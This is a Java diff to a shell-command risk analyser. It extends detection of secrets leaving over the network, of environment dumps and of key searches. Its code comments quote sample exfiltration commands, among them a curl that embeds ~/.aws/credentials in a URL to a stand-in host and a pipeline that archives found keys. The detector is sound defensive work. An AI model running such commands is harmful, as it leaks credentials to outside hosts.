@@ -245,16 +245,23 @@ final class ShellFacts {
                 r.signals.remove(Signal.CONFIG_CODE);
             }
             remember(c, r, written);
-            if (r.sends
+            // xargs curl 'https://x.example/?d={}': what the input holds becomes the arguments of a command that
+            // names a host, and so goes to it.
+            // curl "https://x.example/?k=$(cat ~/.aws/credentials)": a substitution inside a URL goes to its host too.
+            boolean sendsItsArguments =
+                    !r.hosts.isEmpty() && (c.has(dev.lighthouse.shell.Trait.ARGUMENTS_FROM_INPUT) || substitutedUrl(c));
+            boolean fedSecret = upstreamLeaks(c, readings);
+            if ((r.sends || sendsItsArguments)
                     && (secretInput
                             || readsSecret(r)
                             || r.dataHoldsSecret
                             || substitutionReadsSecret
-                            || upstreamLeaks(c, readings)
+                            || fedSecret
                             || readsAny(r, holdsSecrets))) {
                 r.signals.add(Signal.SECRET_TO_NETWORK);
             }
-            taint(r, secretInput, holdsSecrets);
+            // A command fed a secret writes it on: `rg -l KEY ~ | xargs tar czf /tmp/k.tgz` archives the keys.
+            taint(r, secretInput || fedSecret, holdsSecrets);
             acts.add(act(analysis.source(), c, r));
             previous = c;
             previousChangedNothing = quiet
@@ -637,6 +644,10 @@ final class ShellFacts {
             if (secretVariable || code.readsWholeEnvironment()) {
                 r.dataHoldsSecret = true;
             }
+        } else if (code.readsWholeEnvironment()) {
+            // print(os.environ), console.log(process.env): every variable printed, like env(1); what reads that
+            // output on is judged by the taint rules.
+            r.printsPrivate = true;
         } else if (code.environment().stream().anyMatch(name -> CommandReader.mentionsSecretVariable("$" + name))) {
             // print(os.environ["AWS_SECRET_ACCESS_KEY"]): a credential taken out of the environment, to the output or a
             // file; what reads that output on is judged by the taint rules.
@@ -960,6 +971,17 @@ final class ShellFacts {
         }
     }
 
+    /** An argument naming a URL with a command substitution in it ({@code $(…)} or backquotes). */
+    private static boolean substitutedUrl(Command c) {
+        for (Word w : c.args()) {
+            String v = w.value();
+            if (w.dynamic() && (v.contains("$(") || v.contains("`")) && v.contains("://")) {
+                return true;
+            }
+        }
+        return false;
+    }
+
     private static boolean readsAny(CommandReader.Reading r, Set<String> paths) {
         if (paths.isEmpty()) {
             return false;
@@ -1106,7 +1128,7 @@ final class ShellFacts {
                     || !SEARCHERS.contains(c.program())
                     || r.args.stream()
                             .noneMatch(a -> !a.startsWith("/")
-                                    && SECRET_SEARCH.matcher(a).find())) {
+                                    && (SECRET_SEARCH.matcher(a).find() || SecretScanner.huntsFor(a)))) {
                 continue;
             }
             boolean searchesPrivate = readsPrivatePlace(r);
@@ -1123,7 +1145,7 @@ final class ShellFacts {
     }
 
     /** Reads the home directory, a dotfile or the history, or a system tree, outside the project. */
-    private static boolean readsPrivatePlace(CommandReader.Reading r) {
+    static boolean readsPrivatePlace(CommandReader.Reading r) {
         if (r == null) {
             return false;
         }
